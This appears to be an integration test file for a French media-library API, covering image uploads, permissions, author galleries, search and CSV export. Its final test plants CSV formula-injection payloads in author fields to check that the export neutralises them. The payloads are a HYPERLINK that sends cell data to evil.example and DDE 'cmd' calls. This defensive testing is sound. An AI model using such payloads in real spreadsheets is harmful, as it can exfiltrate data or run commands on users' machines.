    const notImage = await as.admin<{ status: number; message: string }>('POST', '/api/image/AUTHOR', { data: dataUrl(text), name: 'notes.png', authorId: 2 });
    expect(notImage.status).toBe(400);
    expect(notImage.body.message).toBe('Type de fichier refusé (file-invalid-type) : « notes.png » n’est ni une image JPEG ni une image PNG (type détecté : inconnu).');

    const broken = Buffer.concat([(await png(10, 10)).subarray(0, 40), Buffer.alloc(20)]);
    const unreadable = await as.admin<{ message: string }>('POST', '/api/image/AUTHOR', { data: dataUrl(broken), name: 'cassée.png', authorId: 2 });
    expect(unreadable.status).toBe(400);
    expect(unreadable.body.message).toMatch(/^Image illisible \(file-unreadable\) : « cassée.png »/);

    const huge = Buffer.alloc(10_000_001);
    (await png(1, 1)).copy(huge);
    const tooLarge = await as.admin<{ status: number; message: string }>('POST', '/api/image/AUTHOR', { data: dataUrl(huge), name: 'énorme.png', authorId: 2 });
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.body.message).toMatch(/^Fichier trop volumineux \(file-too-large\) : « énorme.png » pèse 10.000.001 octets, 10.000.000 au plus\.$/);

    expect((await as.admin('POST', '/api/image/AUTHOR', { data: dataUrl(await png(4, 4)), name: 'x.png' })).status).toBe(400);
    expect((await as.admin('POST', '/api/image/AUTHOR', { data: dataUrl(await png(4, 4)), name: 'x.png', authorId: 99999 })).status).toBe(404);
    expect((await as.admin('POST', '/api/image/ILLUSTRATION', { data: dataUrl(await png(4, 4)), name: 'x.png', authorId: 2 })).status).toBe(400);
    expect((await as.admin('POST', '/api/image/POSTER', { data: dataUrl(await png(4, 4)) })).status).toBe(400);
    // An ad from its file alone: of unknown size, to be completed by PUT /api/advertisement/{id}.
    const ad = await as.admin<Image>('POST', '/api/image/ADVERTISEMENT', { data: dataUrl(await png(4, 4)) });
    expect(ad.status).toBe(201);
    expect(ad.body).toMatchObject({ collection: 'ADVERTISEMENT', authorId: null });
  });

  it('lets only the collection roles upload', async () => {
    const body = { data: dataUrl(await png(20, 20)), name: 'x.png', authorId: 2 };
    expect((await as.lecteur<{ message: string }>('POST', '/api/image/AUTHOR', body)).status).toBe(403);
    expect((await as.medias('POST', '/api/image/AUTHOR', body)).status).toBe(201);
    const illustration = { data: dataUrl(await png(20, 20)), name: 'x.png' };
    expect((await as.redaction('POST', '/api/image/ILLUSTRATION', illustration)).status).toBe(403);
    expect((await as.lecteur('POST', '/api/image/ILLUSTRATION', illustration)).status).toBe(403);
  });

  it('replaces the file of an image, keeping its metadata', async () => {
    const first = (await as.admin<Image>('POST', '/api/image/ILLUSTRATION', { data: dataUrl(await png(600, 300)), name: 'Frise' })).body;
    const replaced = await as.medias<Image>('PUT', `/api/image/ILLUSTRATION/${first.id}`, { data: dataUrl(await jpg(400, 500), 'image/jpeg'), name: 'autre-fichier.jpg' });
    expect(replaced.status).toBe(200);
    expect(replaced.body).toMatchObject({ id: first.id, name: 'Frise', version: 2, mimeType: 'JPG', meta: { contentType: 'image/jpeg', width: 400, height: 500 } });
    expect((await as.lecteur('GET', `/api/image/${first.id}?version=2&size=MEDIUM`)).headers.get('content-type')).toBe('image/jpeg');
    expect((await as.medias('PUT', `/api/image/AUTHOR/${first.id}`, { data: dataUrl(await png(4, 4)) })).status).toBe(400);
    expect((await as.lecteur('PUT', `/api/image/ILLUSTRATION/${first.id}`, { data: dataUrl(await png(4, 4)) })).status).toBe(403);
    expect((await as.medias('PUT', '/api/image/ILLUSTRATION/99999', { data: dataUrl(await png(4, 4)) })).status).toBe(404);
  });
});

describe('author gallery', () => {
  it('edits an image’s metadata, one favourite per author, with the version read', async () => {
    const gallery = (await author(1)).images;
    const [favourite, other] = gallery.filter((i) => i.enable);
    if (!favourite || !other) throw new Error('author 1 has enabled images');
    const edit = { name: 'Portrait officiel', color: 'BLACK_AND_WHITE', framing: 'SKETCH', credits: '<p>© <b>Studio</b> <span>Vendôme</span></p>', sources: '<i>Archives</i>', tags: ['Individu', 'Culture', 'Individu'], quality: 'BAD', comments: 'À recadrer', fav: true, version: other.version };
    const saved = await as.redaction<Image>('PUT', `/api/author/image/${other.id}`, edit);
    expect(saved.status).toBe(200);
    expect(saved.body).toMatchObject({ name: 'Portrait officiel', color: 'BLACK_AND_WHITE', framing: 'SKETCH', credits: '© <b>Studio</b> Vendôme', sources: '<i>Archives</i>', tags: ['Individu', 'Culture'], quality: 'BAD', comments: 'À recadrer', fav: true, version: other.version + 1 });
    expect(saved.body.characteristics).toEqual(['LARGE', 'BLACK_AND_WHITE', 'SKETCH', 'BAD_QUALITY']);
    const after = await author(1);
    expect(after.images.filter((i) => i.fav).map((i) => i.id)).toEqual([other.id]);
    expect(after.imageAuthorId).toBe(other.id);

    const stale = await as.redaction<{ message: string }>('PUT', `/api/author/image/${other.id}`, edit);
    expect(stale.status).toBe(409);
    const missing = await as.redaction<{ message: string }>('PUT', `/api/author/image/${other.id}`, { name: '', framing: 'PORTRAIT' });
    expect(missing.status).toBe(400);
    expect(missing.body.message).toMatch(/Le nom est obligatoire.*La couleur est obligatoire/);
    expect((await as.redaction('PUT', `/api/author/image/${other.id}`, { ...edit, version: undefined, tags: ['Paysage'] })).status).toBe(400);
    expect((await as.lecteur('PUT', `/api/author/image/${other.id}`, { ...edit, version: undefined })).status).toBe(403);
    expect((await as.medias('PUT', `/api/author/image/${other.id}`, { ...edit, version: undefined, fav: false })).status).toBe(200);
  });

  it('deletes by disabling, reactivates, and deletes for good on demand', async () => {
    const { body: created } = await as.admin<Author>('POST', '/api/author', { type: 'FEMALE', firstName: 'Iris', lastName: 'Corbeille' });
    const upload = async () => (await as.medias<Image>('POST', '/api/image/AUTHOR', { data: dataUrl(await png(64, 80, { grey: true })), name: 'iris.png', authorId: created.id })).body;
    const [a, b] = [await upload(), await upload()];
    expect(a).toMatchObject({ fav: true, color: 'BLACK_AND_WHITE', framing: 'PORTRAIT', format: 'THUMBNAIL' });
    expect(b.fav).toBe(false);

    const disabled = await as.redaction<AuthorImagesDeleteResult>('POST', '/api/author/images/delete', { ids: [a.id, b.id] });
    expect(disabled.body).toEqual({ disabled: [a.id, b.id], deleted: [] });
    let gallery = (await author(created.id)).images;
    expect(gallery.map((i) => [i.enable, i.disabled, i.fav])).toEqual([[false, true, false], [false, true, false]]);
    expect((await author(created.id)).imageAuthorId).toBeNull();
    // Disabled images are still served (shown in grey).
    expect((await as.lecteur('GET', `/api/image/${a.id}?size=THUMBNAIL`)).status).toBe(200);

    const enabled = await as.medias<Image>('PUT', `/api/author/image/${a.id}/enable`);
    expect(enabled.body).toMatchObject({ id: a.id, enable: true, disabled: false });
    gallery = (await author(created.id)).images;
    expect(gallery.find((i) => i.id === a.id)?.enable).toBe(true);

    const removed = await as.admin<AuthorImagesDeleteResult>('POST', '/api/author/images/delete', { ids: [b.id], permanent: true });
    expect(removed.body).toEqual({ disabled: [], deleted: [b.id] });
    expect((await as.lecteur('GET', `/api/image/${b.id}`)).status).toBe(404);
    expect((await author(created.id)).images.map((i) => i.id)).toEqual([a.id]);

    expect((await as.lecteur('POST', '/api/author/images/delete', { ids: [a.id] })).status).toBe(403);
    expect((await as.lecteur('PUT', `/api/author/image/${a.id}/enable`)).status).toBe(403);
    expect((await as.admin('POST', '/api/author/images/delete', { ids: [99999] })).status).toBe(404);
    const illustration = (await as.lecteur<SearchResult<ImageRow>>('POST', '/api/image/search', { collectionFilter: ['ILLUSTRATION'], size: 1 })).body.result[0];
    expect((await as.admin('POST', '/api/author/images/delete', { ids: [illustration?.id] })).status).toBe(400);

    // An author's images go with them.
    expect((await as.admin('DELETE', `/api/author/${created.id}`)).status).toBe(204);
    expect((await as.lecteur('GET', `/api/image/${a.id}`)).status).toBe(404);
  });
});

describe('POST /api/image/search', () => {
  const searchImages = async (body: object) => (await as.lecteur<SearchResult<ImageRow>>('POST', '/api/image/search', body)).body;

  it('filters on collection, state, type, characteristics, author and dates; sorts by id ascending by default', async () => {
    const all = await searchImages({ size: 100 });
    expect(all.resultCount).toBeGreaterThan(50);
    const byId = all.result.map((r) => r.id);
    expect([...byId].sort((x, y) => x - y)).toEqual(byId);

    const illustrations = await searchImages({ collectionFilter: ['ILLUSTRATION'], size: 100 });
    expect(illustrations.resultCount).toBeGreaterThan(0);
    expect(illustrations.result.every((r) => r.collection === 'ILLUSTRATION' && r.authorName === null)).toBe(true);
    const disabled = await searchImages({ enableFilter: false, size: 100 });
    expect(disabled.resultCount).toBeGreaterThan(0);
    expect(disabled.result.every((r) => !r.enable)).toBe(true);
    expect((await searchImages({ mimeTypeFilter: ['PNG'], size: 100 })).result.every((r) => r.mimeType === 'PNG')).toBe(true);
    const greyPortraits = await searchImages({ characteristicFilter: ['BLACK_AND_WHITE', 'PORTRAIT'], size: 100 });
    expect(greyPortraits.resultCount).toBeGreaterThan(0);
    expect(greyPortraits.result.every((r) => r.color === 'BLACK_AND_WHITE' && r.framing === 'PORTRAIT')).toBe(true);
    const ofAuthor = await searchImages({ authorIdFilter: [2], size: 100 });
    expect(ofAuthor.result.map((r) => r.authorName)).toEqual(ofAuthor.result.map(() => 'Hélène d’Aubigné'));
    const named = await searchImages({ query: 'aubigne', sort: { attr: 'NAME', order: 'DESC' } });
    expect(named.result.length).toBeGreaterThan(0);
    expect(named.result.every((r) => r.authorId === 2)).toBe(true);
    const recent = await searchImages({ modificationDateFilter: { start: '2024-01-01' }, sort: { attr: 'UPDATE', order: 'DESC' }, size: 100 });
    expect(recent.result.every((r) => r.modificationDate >= '2023-12-31T23:00:00.000Z')).toBe(true);
    const dates = recent.result.map((r) => r.modificationDate);
    expect([...dates].sort().reverse()).toEqual(dates);
  });
});

describe('CSV export neutralises formulas (design.md)', () => {
  it("writes a ' before every text cell that a spreadsheet would read as a formula", async () => {
    const hostile: AuthorInput = {
      type: 'MALE',
      firstName: '=HYPERLINK("https://evil.example?d="&A1,"Voir")',
      lastName: '+cmd|"/c calc"!A0',
      notes: '@SUM(1+1)*cmd|"/c calc"!A0',
      profiles: [{ type: 'WEBSITE', value: '-2+3' }],
    };
    const created = await as.redaction<Author>('POST', '/api/author', hostile);
    expect(created.status).toBe(201);
    const csv = (await as.lecteur<string>('GET', `/api/admin/export/authors-csv?ids=${created.body.id}`)).bytes.toString('utf8');
    const row = csv.slice(1).trimEnd().split('\r\n')[1] ?? '';
    expect(row).toContain(`;"'=HYPERLINK(""https://evil.example?d=""&A1,""Voir"")";`);
    expect(row).toContain(`;"'+cmd|""/c calc""!A0";`);
    expect(row).toContain(`;"'@SUM(1+1)*cmd|""/c calc""!A0";`);
    // A cell that only contains such a value after a label is not a formula: left as it is.
    expect(row).toContain(';Site web : -2+3;');
    expect(row.split(';')[0]).toBe(String(created.body.id));
  });
});
